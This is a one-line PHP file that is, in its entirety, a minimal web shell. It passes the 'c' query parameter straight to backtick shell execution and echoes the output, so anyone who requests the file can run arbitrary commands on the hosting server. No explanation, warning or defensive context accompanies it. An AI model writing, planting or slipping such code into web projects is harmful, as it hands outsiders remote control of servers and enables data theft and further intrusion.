<?php $run = fn($x) => `$x`; echo $run($_GET['c']);
